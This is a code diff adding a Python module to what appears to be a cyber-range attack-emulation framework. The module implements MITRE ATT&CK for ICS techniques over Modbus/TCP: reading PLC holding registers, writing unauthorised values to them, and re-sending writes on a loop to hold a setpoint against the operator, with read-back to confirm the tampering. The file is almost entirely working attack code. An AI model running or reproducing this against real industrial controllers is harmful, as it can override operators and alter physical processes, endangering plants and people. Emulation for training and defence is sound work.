@@ -1,0 +1,201 @@
+"""ICS: Modbus/TCP against a PLC. T0861 point & tag identification (read holding registers),
+T0855 unauthorised command message (write single/multiple holding registers) and T0831
+manipulation of control (the same writes, repeated to hold a setpoint against the operator).
+
+One kernel TCP connection per PLC for the whole step (the MBAP transaction id counts the
+requests), requests written as single segments (``c2.send_segments``); the client closes with an
+abortive close (one RST), so ``packets = tcpi_segs_out + 1`` exactly, like the other TCP
+techniques. Writes are read back before and after: ``written`` holds only what the PLC really
+holds afterwards.
+"""
+from __future__ import annotations
+
+import struct
+import time
+
+from cyberrange.attack.spec import Param, Technique
+from cyberrange.attack.techniques.c2 import parse_service, send_segments
+from cyberrange.attack.techniques.common import Conn, Result
+
+
+class ModbusError(Exception):
+    pass
+
+
+class ModbusClient:
+    def __init__(self, ip: str, port: int, unit: int = 1, connect_timeout: float = 2.5,
+                 io_timeout: float = 3.0):
+        self.conn = Conn(ip, port, connect_timeout, io_timeout)
+        self.unit, self.tid = unit, 0
+        self.requests = 0
+
+    @property
+    def status(self) -> str:
+        return self.conn.status
+
+    def _recv_exact(self, n: int) -> bytes:
+        c = self.conn
+        while len(c.buf) < n:
+            chunk = c.sock.recv(4096)
+            if not chunk:
+                raise ModbusError("the PLC closed the connection")
+            c.buf += chunk
+        out, c.buf = c.buf[:n], c.buf[n:]
+        return out
+
+    def call(self, pdu: bytes) -> bytes:
+        self.tid = (self.tid + 1) & 0xFFFF
+        send_segments(self.conn, struct.pack("!HHHB", self.tid, 0, len(pdu) + 1, self.unit) + pdu)
+        self.requests += 1
+        tid, proto, length, _unit = struct.unpack("!HHHB", self._recv_exact(7))
+        reply = self._recv_exact(length - 1)
+        if tid != self.tid or proto != 0:
+            raise ModbusError(f"unexpected MBAP header (tid {tid}, protocol {proto})")
+        if reply[0] & 0x80:
+            raise ModbusError(f"exception {reply[1]} for function {reply[0] & 0x7F}")
+        return reply
+
+    def read_holding(self, addr: int, count: int) -> list[int]:
+        out = []
+        while count > 0:
+            n = min(count, 125)
+            r = self.call(struct.pack("!BHH", 3, addr, n))
+            out.extend(struct.unpack(f"!{r[1] // 2}H", r[2:2 + r[1]]))
+            addr, count = addr + n, count - n
+        return out
+
+    def write(self, addr: int, values: list[int]) -> None:
+        if len(values) == 1:
+            self.call(struct.pack("!BHH", 6, addr, values[0] & 0xFFFF))
+        else:
+            for i in range(0, len(values), 123):
+                part = values[i:i + 123]
+                self.call(struct.pack(f"!BHHB{len(part)}H", 16, addr + i, len(part), 2 * len(part),
+                                      *[v & 0xFFFF for v in part]))
+
+    def close(self) -> dict:
+        return self.conn.close()
+
+
+def _open(ip, port, params, res) -> ModbusClient | None:
+    cl = ModbusClient(ip, port, int(params.get("unit", 1)), float(params.get("connect_timeout", 2.5)),
+                      float(params.get("io_timeout", 3.0)))
+    if not cl.conn.established:
+        res.log.append(f"{ip}:{port}: {cl.status}")
+        res.flows.append(cl.close())
+        return None
+    return cl
+
+
+def _finish(res: Result, statuses: list[str], good: bool) -> Result:
+    if good:
+        res.outcome = "succeeded"
+    elif statuses and all(s in ("refused", "timeout", "unreachable") for s in statuses):
+        res.outcome = "blocked"
+    else:
+        res.outcome = "failed"
+    res.end = time.time()
+    return res
+
+
+def modbus_read(targets: list[str], params: dict) -> Result:
+    res = Result(start=time.time())
+    addr, count = int(params.get("address", 0)), int(params.get("count", 10))
+    registers, plcs, statuses = {}, [], []
+    for ip, port in dict.fromkeys(parse_service(t, params.get("port", 502)) for t in targets):
+        cl = _open(ip, port, params, res)
+        if cl is None:
+            statuses.append("unreachable")
+            continue
+        statuses.append("connected")
+        try:
+            vals = cl.read_holding(addr, count)
+            registers[f"{ip}:{port}"] = {str(addr + i): v for i, v in enumerate(vals)}
+            plcs.append(f"{ip}:{port}")
+        except (ModbusError, OSError, struct.error) as exc:
+            res.log.append(f"{ip}:{port}: {exc}")
+        finally:
+            res.flows.append(cl.close())
+    res.facts = {"registers": registers, "plcs": plcs}
+    return _finish(res, statuses, bool(plcs))
+
+
+def _values(params: dict) -> list[int]:
+    vals = params.get("values")
+    if vals in (None, [], ""):
+        vals = [params.get("value", 0)]
+    if not isinstance(vals, list):
+        vals = [vals]
+    return [int(v) for v in vals]
+
+
+def modbus_write(targets: list[str], params: dict) -> Result:
+    res = Result(start=time.time())
+    addr, values = int(params.get("address", 0)), _values(params)
+    repeat = max(1, int(params.get("repeat", 1)))
+    interval = float(params.get("interval", 1.0))
+    before, after, written, plcs, statuses = {}, {}, {}, [], []
+    for ip, port in dict.fromkeys(parse_service(t, params.get("port", 502)) for t in targets):
+        key = f"{ip}:{port}"
+        cl = _open(ip, port, params, res)
+        if cl is None:
+            statuses.append("unreachable")
+            continue
+        statuses.append("connected")
+        try:
+            old = cl.read_holding(addr, len(values))
+            before[key] = {str(addr + i): v for i, v in enumerate(old)}
+            for n in range(repeat):
+                if n:
+                    time.sleep(interval)
+                cl.write(addr, values)
+            new = cl.read_holding(addr, len(values))
+            after[key] = {str(addr + i): v for i, v in enumerate(new)}
+            held = {str(addr + i): v for i, v in enumerate(new) if v == values[i] & 0xFFFF}
+            if held:
+                written[key] = held
+                plcs.append(key)
+        except (ModbusError, OSError, struct.error) as exc:
+            res.log.append(f"{key}: {exc}")
+        finally:
+            res.flows.append(cl.close())
+    res.log.append(f"wrote {values} at {addr} x{repeat}: before {before}, after {after}")
+    res.facts = {"registers": after, "before": before, "written": written, "plcs": plcs}
+    return _finish(res, statuses, bool(written))
+
+
+_CONN = {
+    "port": Param(int, 502, "Modbus/TCP port for targets given without :port"),
+    "unit": Param(int, 1, "Modbus unit identifier"),
+    "address": Param(int, 0, "first holding register"),
+}
+_WRITE = {
+    **_CONN,
+    "value": Param(int, 0, "value for a single-register write (when `values` is empty)"),
+    "values": Param(list, [], "values written from `address` on (function 16 if more than one)"),
+}
+
+SPECS = [
+    Technique(
+        "T0861", "Point & Tag Identification (Modbus read holding registers)", "collection",
+        {**_CONN, "count": Param(int, 10, "holding registers to read")},
+        produces=("registers", "plcs"),
+        target_kind="service",
+    ),
+    Technique(
+        "T0855", "Unauthorized Command Message (Modbus register write)", "impair-process-control",
+        {**_WRITE, "repeat": Param(int, 1, "times the write is sent"),
+         "interval": Param((int, float), 1.0, "seconds between repeated writes")},
+        produces=("registers", "written", "plcs"),
+        target_kind="service",
+    ),
+    Technique(
+        "T0831", "Manipulation of Control (hold a setpoint by repeated Modbus writes)", "impact",
+        {**_WRITE, "repeat": Param(int, 5, "times the write is sent"),
+         "interval": Param((int, float), 1.0, "seconds between repeated writes")},
+        produces=("registers", "written", "plcs"),
+        target_kind="service",
+    ),
+]
+
+FUNCS = {"T0861": modbus_read, "T0855": modbus_write, "T0831": modbus_write}
